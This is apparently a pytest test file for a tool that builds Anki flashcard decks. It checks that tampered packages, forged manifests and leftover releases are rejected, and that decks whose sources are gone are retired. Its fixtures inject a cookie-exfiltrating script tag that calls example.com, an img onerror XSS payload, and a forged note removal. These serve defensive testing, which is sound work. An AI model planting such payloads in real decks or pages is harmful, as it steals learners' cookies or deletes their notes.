"""The decks folder is checked against its sources: a committed package or manifest that is
not what the sources build stops ``diff`` and ``build`` with one line naming the file; and a
deck whose sources are gone is retired by a final release that removes its notes."""

from __future__ import annotations

import json
import shutil
import sqlite3
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
import yaml
from click.testing import Result

from builder import scaffold, stamp
from builder.release.manifest import Tombstone, load_manifest

from support import errors, run

ALPHA = "# Alpha\n\n## Part\n\n- **One:** first\n- **Two:** second\n"
BETA = "# Beta\n\n## Part\n\n- **Three:** third\n- **Four:** fourth\n"
EPOCH = "1700000000"

REBUILD = "rebuild it from the sources: delete it and run deckbuilder build"
RESTORE = "restore it from git (a manifest holds the deck's history, which no build remakes)"


@pytest.fixture
def work(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The current folder: ``source/`` with decks Alpha and Beta, released into ``decks/``."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", EPOCH)
    (tmp_path / "source").mkdir()
    (tmp_path / "source" / "a.md").write_text(ALPHA, encoding="utf-8")
    (tmp_path / "source" / "b.md").write_text(BETA, encoding="utf-8")
    result = run("build")
    assert result.exit_code == 0, result.output
    return tmp_path


def state(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


def failed(result: Result, *lines: str) -> None:
    """Exit status 1, exactly ``lines`` on standard error, no traceback."""
    assert result.exit_code == 1, result.output
    assert isinstance(result.exception, SystemExit), repr(result.exception)
    assert errors(result).splitlines() == list(lines)


def tamper(package: Path, change: Callable[[sqlite3.Connection], None]) -> None:
    """Edit the collection inside an ``.apkg`` with SQL, as someone editing a release would."""
    with zipfile.ZipFile(package) as archive:
        members = [(info, archive.read(info)) for info in archive.infolist()]
    database = package.with_name("edited.anki2")
    database.write_bytes(dict((i.filename, d) for i, d in members)["collection.anki2"])
    db = sqlite3.connect(database)
    try:
        change(db)
        db.commit()
    finally:
        db.close()
    edited = database.read_bytes()
    database.unlink()
    with zipfile.ZipFile(package, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in members:
            archive.writestr(info, edited if info.filename == "collection.anki2" else data)


def script_in_template(db: sqlite3.Connection) -> None:
    (models,) = db.execute("SELECT models FROM col").fetchone()
    models = json.loads(models)
    for model in models.values():
        model["tmpls"][0]["qfmt"] += "<script>fetch('https://example.com/'+document.cookie)</script>"
    db.execute("UPDATE col SET models = ?", (json.dumps(models),))


def onerror_in_field(db: sqlite3.Connection) -> None:
    nid, fields = db.execute("SELECT id, flds FROM notes WHERE sfld LIKE '%One?'").fetchone()
    db.execute("UPDATE notes SET flds = ? WHERE id = ?", ('<img src=x onerror="alert(1)">' + fields, nid))


def edit_manifest(path: Path, change: Callable) -> None:
    manifest = load_manifest(path)
    assert manifest is not None
    path.write_text(change(manifest).to_json(), encoding="utf-8")


def package_notes(package: Path) -> list[tuple[str, str, str]]:
    """(guid, sort field, tags) of each note an ``.apkg`` holds."""
    with zipfile.ZipFile(package) as archive:
        data = archive.read("collection.anki2")
    database = package.with_name("read.anki2")
    database.write_bytes(data)
    try:
        db = sqlite3.connect(database)
        try:
            return [tuple(row) for row in db.execute("SELECT guid, sfld, tags FROM notes ORDER BY id")]
        finally:
            db.close()
    finally:
        database.unlink()


# --- a tampered package or manifest -----------------------------------------------------------


def test_untampered_decks_pass_and_build_keeps_them(work):
    before = state(work / "decks")
    check = run("diff", "--check")
    assert check.exit_code == 0, check.output
    assert check.stdout == "Alpha: 1.0.0, up to date\nBeta: 1.0.0, up to date\n"
    again = run("build")
    assert again.exit_code == 0, again.output
    assert state(work / "decks") == before


@pytest.mark.parametrize(
    ("change", "what"),
    [
        (script_in_template, "the templates of note type “deckbuilder prompt/answer”"),
        (onerror_in_field, "the fields of “Part — One?”"),
    ],
    ids=["script-in-template", "onerror-in-field"],
)
def test_a_tampered_package_fails_diff_check_and_build(work, change, what):
    package = work / "decks" / "alpha-1.0.0.apkg"
    tamper(package, change)
    lint = run("lint", "--strict")
    assert lint.exit_code == 0, lint.output  # the sources are fine: only the package was edited
    before = state(work / "decks")
    line = f"decks/alpha-1.0.0.apkg: error: differs from what its sources build ({what}); {REBUILD}"
    failed(run("diff", "--check"), line)
    failed(run("diff"), line)
    failed(run("build"), line)
    assert state(work / "decks") == before  # build neither kept it as unchanged nor wrote anything
    # The fix the message names.
    package.unlink()
    rebuilt = run("build")
    assert rebuilt.exit_code == 0, rebuilt.output
    assert "Alpha: 2 notes (fact 2) -> decks/alpha-1.0.0.apkg (1.0.0, unchanged, rewritten)" in rebuilt.stdout
    assert run("diff", "--check").exit_code == 0
    assert all("onerror" not in fields and "script" not in fields for _, fields, _ in package_notes(package))


def test_both_packages_tampered_are_both_named(work):
    tamper(work / "decks" / "alpha-1.0.0.apkg", script_in_template)
    tamper(work / "decks" / "beta-1.0.0.apkg", script_in_template)
    failed(
        run("diff", "--check"),
        *(
            f"decks/{slug}-1.0.0.apkg: error: differs from what its sources build"
            f" (the templates of note type “deckbuilder prompt/answer”); {REBUILD}"
            for slug in ("alpha", "beta")
        ),
    )


def test_a_manifest_that_removes_a_note_it_never_shipped_fails(work):
    """A note added to ``removed``: sync would delete it from every learner's collection."""
    path = work / "decks" / "alpha.manifest.json"
    evil = Tombstone(
        guid="p0Wn3d!xyz", key="a/part/fact:x", kind="fact", model="prompt", prompt="Gone", removed="1.0.0"
    )
    edit_manifest(path, lambda m: replace(m, removed=(*m.removed, evil)))
    before = state(work / "decks")
    line = (
        "decks/alpha.manifest.json: error: differs from what its sources build"
        f" (it lists notes its package alpha-1.0.0.apkg never held: “Gone”); {RESTORE}"
    )
    failed(run("diff", "--check"), line)
    failed(run("build"), line)
    assert state(work / "decks") == before


@pytest.mark.parametrize("change", ["edit", "retire"])
def test_a_forged_removal_fails_also_with_a_new_version(work, change):
    """The forged entry and an edit of the sources in one change: the new version would ship the
    forged note on as removed; the manifest is compared with the package it came with."""
    path = work / "decks" / "beta.manifest.json"
    evil = Tombstone(
        guid="p0Wn3d!xyz", key="a/part/fact:x", kind="fact", model="prompt", prompt="Gone", removed="1.0.0"
    )
    edit_manifest(path, lambda m: replace(m, removed=(*m.removed, evil)))
    if change == "edit":
        (work / "source" / "b.md").write_text(BETA.replace("third", "3rd"), encoding="utf-8")
    else:
        (work / "source" / "b.md").unlink()
    before = state(work / "decks")
    line = (
        "decks/beta.manifest.json: error: differs from what its sources build"
        f" (it lists notes its package beta-1.0.0.apkg never held: “Gone”); {RESTORE}"
    )
    failed(run("diff", "--check"), line)
    failed(run("build"), line)
    assert state(work / "decks") == before


def test_a_manifest_with_a_changed_shipped_hash_fails_naming_its_line(work):
    path = work / "decks" / "alpha.manifest.json"
    edit_manifest(
        path,
        lambda m: replace(m, notes=(m.notes[0]._replace(shipped=("0123456789abcdef",)), *m.notes[1:])),
    )
    line = next(n for n, text in enumerate(path.read_text().splitlines(), 1) if "0123456789abcdef" in text)
    message = f"decks/alpha.manifest.json:{line}: error: differs from what its sources build; {RESTORE}"
    failed(run("diff", "--check"), message)
    failed(run("build"), message)


def test_a_manifest_edited_by_hand_fails(work):
    """Valid JSON, the same manifest, but not the text deckbuilder writes."""
    path = work / "decks" / "beta.manifest.json"
    data = json.loads(path.read_text(encoding="utf-8"))
    path.write_text(json.dumps(data, indent=4, sort_keys=True) + "\n", encoding="utf-8")
    failed(
        run("diff", "--check"),
        f"decks/beta.manifest.json:2: error: differs from what its sources build; {RESTORE}",
    )


def test_a_manifest_with_a_changed_note_hash_is_out_of_date(work):
    """A note's hash is what a release is compared with: changed, the note is shipped again
    from its sources in a new version, and ``diff --check`` fails until that is committed."""
    path = work / "decks" / "alpha.manifest.json"
    edit_manifest(
        path, lambda m: replace(m, notes=(m.notes[0]._replace(digest="0123456789abcdef"), *m.notes[1:]))
    )
    check = run("diff", "--check")
    assert check.exit_code == 1
    assert check.stdout.splitlines()[:2] == ["Alpha: 1.0.0 -> 1.0.1 (patch)", "  ~ Part — One?"]


def test_the_no_change_shortcut_never_keeps_a_tampered_package(work):
    first = run("build")
    assert first.exit_code == 0
    saved = stamp.load(["source"], Path("decks"))
    assert saved is not None and saved.decks == stamp.decks(Path("decks"))
    tamper(work / "decks" / "alpha-1.0.0.apkg", onerror_in_field)
    assert saved.decks != stamp.decks(Path("decks"))  # same names, same manifests: other bytes
    failed(
        run("build"),
        "decks/alpha-1.0.0.apkg: error: differs from what its sources build"
        f" (the fields of “Part — One?”); {REBUILD}",
    )


def test_a_package_of_no_deck_fails(work):
    shutil.copyfile(work / "decks" / "alpha-1.0.0.apkg", work / "decks" / "gamma-1.0.0.apkg")
    line = (
        "decks/gamma-1.0.0.apkg: error: is the package of no deck (no manifest in this folder names it,"
        " no source builds it); delete it"
    )
    failed(run("diff", "--check"), line)
    failed(run("build"), line)


def test_the_team_workflow_checks_the_decks_before_it_attaches_them():
    workflow = yaml.safe_load(scaffold.template("workflow.yml"))
    for job in workflow["jobs"].values():
        runs = [step.get("run", "") for step in job["steps"]]
        attach = [i for i, step in enumerate(job["steps"]) if "action-gh-release" in step.get("uses", "")]
        if attach:  # a pull request's check attaches nothing, and needs no release in decks/
            checked = next(i for i, text in enumerate(runs) if "deckbuilder diff --check" in text)
            assert all(checked < i for i in attach)
    release = workflow["jobs"]["release"]["steps"]
    assert any("deckbuilder diff --check" in step.get("run", "") for step in release)


# --- retiring a deck --------------------------------------------------------------------------


def test_a_deck_whose_source_is_deleted_is_retired_by_a_final_release(work, monkeypatch):
    (work / "source" / "b.md").unlink()
    before = state(work / "decks")
    check = run("diff", "--check")
    assert check.exit_code == 1
    assert check.stdout.splitlines() == [
        "Alpha: 1.0.0, up to date",
        "Beta: 1.0.0 -> 2.0.0 (major: retired, its sources are gone)",
        "  - Part — Three?",
        "  - Part — Four?",
    ]
    assert state(work / "decks") == before  # diff writes nothing
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700100000")
    built = run("build")
    assert built.exit_code == 0, built.output
    assert built.stdout.splitlines() == [
        "Alpha: 2 notes (fact 2) -> decks/alpha-1.0.0.apkg (1.0.0, unchanged)",
        "Beta: retired, its sources are gone -> decks/beta-2.0.0.apkg (1.0.0 -> 2.0.0, major: 2 removed)",
    ]
    decks = work / "decks"
    assert sorted(p.name for p in decks.glob("beta*")) == [
        "beta-2.0.0.apkg",
        "beta.changelog.md",
        "beta.manifest.json",
    ]
    first = json.loads(before["beta.manifest.json"])
    manifest = json.loads((decks / "beta.manifest.json").read_text(encoding="utf-8"))
    assert manifest["version"] == "2.0.0"
    assert manifest["notes"] == [] and manifest["sources"] == []
    assert [(t["guid"], t["removed"]) for t in manifest["removed"]] == [
        (n["guid"], "2.0.0") for n in first["notes"]
    ]
    assert manifest["history"][0]["bump"] == "major"
    changelog = (decks / "beta.changelog.md").read_text(encoding="utf-8")
    assert "## 2.0.0 (2023-11-16)\n\nWhy: the deck is retired (its sources were removed)" in changelog
    assert "### Removed\n\n- Part — Three?\n- Part — Four?\n" in changelog
    # Its package holds only tombstones, with the GUIDs learners have.
    notes = package_notes(decks / "beta-2.0.0.apkg")
    assert [guid for guid, _, _ in notes] == [n["guid"] for n in first["notes"]]
    assert all(sort.startswith("(removed) ") and " removed " in f" {tags} " for _, sort, tags in notes)
    # Committed, it passes; later builds keep it as it is.
    after = state(decks)
    check = run("diff", "--check")
    assert check.exit_code == 0, check.output
    assert check.stdout == "Alpha: 1.0.0, up to date\nBeta: 2.0.0, retired, up to date\n"
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700200000")
    again = run("build")
    assert again.exit_code == 0, again.output
    assert "Beta: retired -> decks/beta-2.0.0.apkg (2.0.0, unchanged)" in again.stdout
    assert state(decks) == after
    # Its final package is checked like any other.
    tamper(decks / "beta-2.0.0.apkg", script_in_template)
    failed(
        run("diff", "--check"),
        "decks/beta-2.0.0.apkg: error: differs from what its sources build"
        f" (the templates of note type “deckbuilder prompt/answer”); {REBUILD}",
    )


def test_a_retired_deck_whose_source_comes_back_keeps_its_notes(work, monkeypatch):
    guids = [n["guid"] for n in json.loads((work / "decks" / "beta.manifest.json").read_text())["notes"]]
    (work / "source" / "b.md").unlink()
    assert run("build").exit_code == 0
    (work / "source" / "b.md").write_text(BETA, encoding="utf-8")
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700100000")
    back = run("build")
    assert back.exit_code == 0, back.output
    assert "decks/beta-2.1.0.apkg (2.0.0 -> 2.1.0, minor: 2 added, 0 changed, 0 removed)" in back.stdout
    manifest = json.loads((work / "decks" / "beta.manifest.json").read_text())
    assert [n["guid"] for n in manifest["notes"]] == guids and manifest["removed"] == []


def test_building_one_source_retires_no_other_deck(work):
    (work / "source" / "b.md").unlink()
    before = state(work / "decks")
    check = run("diff", "--check", "source/a.md")
    assert check.exit_code == 0, check.output
    assert check.stdout == "Alpha: 1.0.0, up to date\n"
    built = run("build", "source/a.md")
    assert built.exit_code == 0, built.output
    assert built.stdout == "Alpha: 2 notes (fact 2) -> decks/alpha-1.0.0.apkg (1.0.0, unchanged)\n"
    assert state(work / "decks") == before


def test_a_deck_built_from_another_folder_is_not_retired(work):
    (work / "other").mkdir()
    (work / "other" / "g.md").write_text("# Gamma\n\n## Part\n\n- **Five:** fifth\n", encoding="utf-8")
    assert run("build", "other").exit_code == 0
    before = state(work / "decks")
    check = run("diff", "--check", "source")
    assert check.exit_code == 0, check.output
    assert "Gamma" not in check.stdout
    built = run("build", "source")
    assert built.exit_code == 0, built.output
    assert "Gamma" not in built.stdout
    assert state(work / "decks") == before


def test_a_renamed_deck_is_not_retired(work):
    (work / "source" / "b.md").write_text(BETA.replace("# Beta", "# Better"), encoding="utf-8")
    built = run("build")
    assert built.exit_code == 0, built.output
    assert "retired" not in built.stdout
    assert "Why: the deck was renamed from “Beta”" in (work / "decks" / "better.changelog.md").read_text()
    assert not list((work / "decks").glob("beta*"))


def test_a_decks_file_entry_removed_with_its_sources_retires_its_deck(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", EPOCH)
    (tmp_path / "source").mkdir()
    (tmp_path / "source" / "a.md").write_text(ALPHA, encoding="utf-8")
    (tmp_path / "source" / "x.md").write_text(BETA.replace("# Beta", "# X"), encoding="utf-8")
    (tmp_path / "source" / "decks.yaml").write_text(
        "decks:\n  - deck: Group\n    sources: [x.md]\n", encoding="utf-8"
    )
    assert run("build").exit_code == 0
    (tmp_path / "source" / "decks.yaml").unlink()
    (tmp_path / "source" / "x.md").unlink()
    built = run("build")
    assert built.exit_code == 0, built.output
    assert (
        "Group: retired, its sources are gone -> decks/group-2.0.0.apkg (1.0.0 -> 2.0.0, major: 2 removed)"
        in built.stdout
    )


def test_sync_deletes_a_retired_decks_notes(work, monkeypatch):
    collection = pytest.importorskip("anki.collection")
    path = work / "collection.anki2"
    collection.Collection(str(path)).close()
    synced = run("sync", "--collection", str(path))
    assert synced.exit_code == 0, synced.output
    beta = {n["guid"] for n in json.loads((work / "decks" / "beta.manifest.json").read_text())["notes"]}
    (work / "source" / "b.md").unlink()
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700100000")
    assert run("build").exit_code == 0
    again = run("sync", "--collection", str(path))
    assert again.exit_code == 0, again.output
    assert "Beta 2.0.0: 0 added, 0 changed, 0 moved, 2 deleted" in again.stdout
    col = collection.Collection(str(path))
    try:
        left = {guid for (guid,) in col.db.all("select guid from notes")}
    finally:
        col.close()
    assert not beta & left and len(left) == 2


def test_an_older_release_left_in_the_folder_is_out_of_date_and_build_deletes_it(work):
    decks = work / "decks"
    shutil.copyfile(decks / "alpha-1.0.0.apkg", decks / "alpha-0.9.0.apkg")
    tamper(decks / "alpha-0.9.0.apkg", script_in_template)
    check = run("diff", "--check")
    assert check.exit_code == 1, check.output
    assert (
        "Alpha: decks/alpha-0.9.0.apkg is not its release 1.0.0; build deletes it"
        in check.stdout.splitlines()
    )
    assert run("build").exit_code == 0
    assert not (decks / "alpha-0.9.0.apkg").exists()
    assert run("diff", "--check").exit_code == 0


def test_notes_in_another_order_make_the_package_out_of_date_not_tampered(work):
    """The same notes in another order: learners get nothing new, so no version; but the
    committed package is not what the sources build, so diff --check fails and build rewrites it."""
    (work / "source" / "b.md").write_text(BETA.replace("- **Three:** third\n", "") + "- **Three:** third\n")
    check = run("diff", "--check")
    assert check.exit_code == 1, check.output
    assert errors(check) == ""
    assert check.stdout.splitlines()[1] == (
        "Beta: 1.0.0, decks/beta-1.0.0.apkg is not what its sources build (the order of its cards);"
        " build rewrites it"
    )
    built = run("build")
    assert built.exit_code == 0, built.output
    assert "Beta: 2 notes (fact 2) -> decks/beta-1.0.0.apkg (1.0.0, unchanged, rewritten)" in built.stdout
    assert run("diff", "--check").exit_code == 0


def compared(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The decks whose committed manifest a check compares from now on, by slug (those it
    vouches for are not compared)."""
    from builder.release import verify

    seen: list[str] = []
    real = verify._manifest
    monkeypatch.setattr(verify, "_manifest", lambda rel, out: seen.append(rel.plan.slug) or real(rel, out))
    return seen


def test_a_deck_checked_before_is_not_made_again_and_a_file_edited_since_is_still_caught(work, monkeypatch):
    """A deck found to be what its sources build is remembered by a digest of all the check
    compared (its plan, its committed manifest and package): checked again, nothing is made;
    any byte of either file changed since, and it is compared in full again."""
    from builder.release import verify

    assert run("diff", "--check").exit_code == 0  # both decks checked, and remembered
    made: list[str] = []
    real = verify.packages_of
    monkeypatch.setattr(
        verify, "packages_of", lambda rels: made.extend(r.plan.slug for r in rels) or real(rels)
    )
    manifests = compared(monkeypatch)
    assert run("diff", "--check").exit_code == 0
    assert made == manifests == []
    tamper(work / "decks" / "alpha-1.0.0.apkg", onerror_in_field)
    failed(
        run("diff", "--check"),
        "decks/alpha-1.0.0.apkg: error: differs from what its sources build"
        f" (the fields of “Part — One?”); {REBUILD}",
    )
    assert manifests == ["alpha"]  # beta is vouched for still
    path = work / "decks" / "beta.manifest.json"
    data = json.loads(path.read_text(encoding="utf-8"))
    path.write_text(json.dumps(data, indent=4, sort_keys=True) + "\n", encoding="utf-8")
    result = run("diff", "--check")
    assert result.exit_code == 1
    assert f"decks/beta.manifest.json:2: error: differs from what its sources build; {RESTORE}" in errors(
        result
    )


def test_what_is_remembered_is_the_deck_not_its_source_text_and_another_deckbuilder_checks_again(
    work, monkeypatch
):
    """A source edited so that no note changes (a blank line) plans the same deck: it is
    vouched for. Another deckbuilder (another fingerprint) remembers nothing: every deck is
    compared again."""
    from builder import cache

    assert run("diff", "--check").exit_code == 0
    source = work / "source" / "a.md"
    source.write_text(source.read_text(encoding="utf-8").replace("## Part", "## Part\n"), encoding="utf-8")
    manifests = compared(monkeypatch)
    assert run("diff", "--check").exit_code == 0
    assert manifests == []
    monkeypatch.setattr(cache, "fingerprint", lambda: "another deckbuilder")
    assert run("diff", "--check").exit_code == 0
    assert sorted(manifests) == ["alpha", "beta"]


def test_releases_a_build_wrote_are_vouched_for_until_a_file_changes(work, monkeypatch):
    """The decks a build checked and wrote are what their sources build: the next check
    compares nothing again, and one edited file since is compared in full."""

    manifests = compared(monkeypatch)
    assert run("diff", "--check").exit_code == 0
    assert manifests == []
    tamper(work / "decks" / "beta-1.0.0.apkg", script_in_template)
    assert run("diff", "--check").exit_code == 1
    assert manifests == ["beta"]
